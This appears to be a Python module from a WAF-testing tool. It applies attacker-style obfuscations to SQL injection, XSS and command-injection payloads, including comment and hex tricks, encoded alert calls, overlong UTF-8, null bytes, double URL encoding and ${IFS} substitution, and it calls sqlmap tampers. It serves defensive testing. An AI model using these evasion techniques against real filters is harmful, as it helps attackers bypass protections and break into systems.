"""Obfuscations attackers use against regex WAFs. Each takes the explicit
random.Random and an app-level payload; the wire-level ones return
(payload, wire) where wire=True means already encoded for the transport."""
import base64
import random
import re

from .draw import chance, pick


# --------------------------------------------------------------------------
def case_mix(r, s):
    return "".join(c.upper() if chance(r, 0.5) else c.lower() for c in s)


SQL_KW_RE = re.compile(r"\b(select|union|from|where|and|or|sleep|order|by|insert|into|values|drop|table|concat|limit|having|group)\b", re.I)


def sql_comments(r, s):
    mode = pick(r, ["space", "versioned", "inline"])
    if mode == "space":
        return s.replace(" ", pick(r, ["/**/", "/*x*/", "/*!*/", "%0a", "\t", "/**_**/"]))
    if mode == "versioned":
        return SQL_KW_RE.sub(lambda m: f"/*!{pick(r, ['', '50000', '12345'])}{m.group(0)}*/", s)
    return SQL_KW_RE.sub(lambda m: m.group(0) + "/**/", s)


def whitespace(r, s):
    return s.replace(" ", pick(r, ["\t", "\n", "\r\n", "\x0b", "\x0c", "  ", "+", "\xa0"]))


def sql_concat(r, s):
    def rep(m):
        w = m.group(1)
        if len(w) < 2:
            return m.group(0)
        i = r.randint(1, len(w) - 1)
        return pick(r, [f"'{w[:i]}'||'{w[i:]}'", f"CONCAT('{w[:i]}','{w[i:]}')", f"'{w[:i]}' '{w[i:]}'", "CHAR(" + ",".join(str(ord(c)) for c in w) + ")", "0x" + w.encode().hex()])
    return re.sub(r"'([A-Za-z0-9_]+)'", rep, s)


def js_tricks(r, s):
    t = pick(r, [lambda: s.replace("alert(1)", pick(r, ["alert`1`", "top['al'+'ert'](1)", "window['al\\x65rt'](1)", "(alert)(1)", "[1].find(alert)", "self[atob('YWxlcnQ=')](1)"])),
              lambda: s.replace("(", "`").replace(")", "`") if "alert(1)" in s else s.replace("alert", "\\u0061lert"),
              lambda: s.replace("javascript:", pick(r, ["java&#x09;script:", "&#x6A;avascript:", "javas&#99;ript:", "javascript&colon;"])),
              lambda: s.replace("<", "\\x3c").replace(">", "\\x3e"),
              lambda: s.replace(" ", "/")])
    return t()


def unicode_esc(r, s):
    mode = pick(r, ["fullwidth", "jsu", "iis", "overlong"])
    if mode == "fullwidth":
        return "".join(chr(ord(c) + 0xFEE0) if c in "<>'\"()/;=" and chance(r, 0.7) else c for c in s), False
    if mode == "jsu":
        return "".join(f"\\u{ord(c):04x}" if not c.isalnum() or chance(r, 0.2) else c for c in s), False
    if mode == "iis":
        return "".join(f"%u{ord(c):04x}" if not c.isalnum() or chance(r, 0.2) else c for c in s), True
    return "".join({"'": "%c0%a7", "/": "%c0%af", "<": "%c0%bc", ">": "%c0%be", ".": "%c0%ae", " ": "%c0%a0"}.get(c, c) for c in s), True


def html_entities(r, s):
    fmt = pick(r, ["&#{d};", "&#x{h};", "&#{d}", "&#x{h}", "&#000{d};"])
    return "".join(fmt.format(d=ord(c), h=f"{ord(c):x}") if (not c.isalnum() or chance(r, 0.3)) and ord(c) < 128 else c for c in s)


def null_bytes(r, s):
    if chance(r, 0.5):
        return s + pick(r, ["%00", "%00.jpg", "%00.php"]), True
    i = r.randint(0, len(s))
    return s[:i] + "%00" + s[i:], True


def url_full(r, s):
    return "".join(f"%{b:02X}" for b in s.encode()), True


def url_double(r, s):
    return "".join(f"%25{b:02X}" if not chr(b).isalnum() or chance(r, 0.2) else chr(b) for b in s.encode()), True


def url_partial(r, s):
    return "".join(f"%{b:02x}" if chr(b) in "'\"<>()=; /.\\|&$`{}" and chance(r, 0.6) else chr(b) for b in s.encode()), True


def nested(r, s):
    s2 = html_entities(r, s) if chance(r, 0.5) else s
    return "".join(f"%{b:02X}" if not chr(b).isalnum() else chr(b) for b in s2.encode()), True


def base64_text(r, s):
    """The payload as base64, for back ends that decode a parameter before
    use; standard or URL-safe, padded or not."""
    b = s.encode("utf-8", "surrogateescape")
    out = (base64.urlsafe_b64encode(b) if chance(r, 0.3) else base64.b64encode(b)).decode()
    if chance(r, 0.3):
        out = out.rstrip("=")
    return out, False


def obfuscate(r, cls, payload, sm):
    """Returns (payload, wire, names)."""
    names = []
    wire = False
    n = pick(r, [1, 1, 1, 2, 2, 3])
    app_ops = {"case": case_mix, "whitespace": whitespace}
    if cls == "sqli":
        app_ops.update(sql_comments=sql_comments, concat=sql_concat)
    if cls == "xss":
        app_ops.update(js=js_tricks, entities=html_entities)
    if cls == "rce":
        app_ops.update(ifs=lambda r, s: s.replace(" ", pick(r, ["${IFS}", "$IFS$9", "{,}", "%09"])), quotes=lambda r, s: re.sub(r"\b(cat|id|whoami|ls|uname|ping|sleep|dir|type|net)\b", lambda m: m.group(1)[0] + pick(r, ["''", '""', "\\", "$@", "^"]) + m.group(1)[1:], s))
    for _ in range(n):
        if cls == "sqli" and sm.tampers and chance(r, 0.35):
            name = pick(r, sorted(sm.tampers))
            # sqlmap's tampers draw from the global generator; reseeding it
            # from ours before each call keeps the corpus a function of the
            # seed alone, whatever ran before.
            random.seed(r.getrandbits(64))
            out = sm.tampers[name](payload)
            if out:
                # Tampers that emit % sequences already encode for the wire.
                wire = wire or bool(re.search(r"%[0-9A-Fa-f]{2}|%u[0-9A-Fa-f]{4}", out)) and not re.search(r"%[0-9A-Fa-f]{2}", payload)
                payload = out
                names.append("sqlmap:" + name)
            continue
        name = pick(r, sorted(app_ops))
        payload = app_ops[name](r, payload)
        names.append(name)
    if chance(r, 0.5) and not wire:
        name, fn = pick(r, [("url_full", url_full), ("url_double", url_double), ("url_partial", url_partial), ("unicode", unicode_esc),
                         ("nullbyte", null_bytes), ("nested", nested), ("base64", base64_text)])
        res = fn(r, payload)
        payload, wire = res if isinstance(res, tuple) else (res, False)
        names.append(name)
    return payload, wire, names


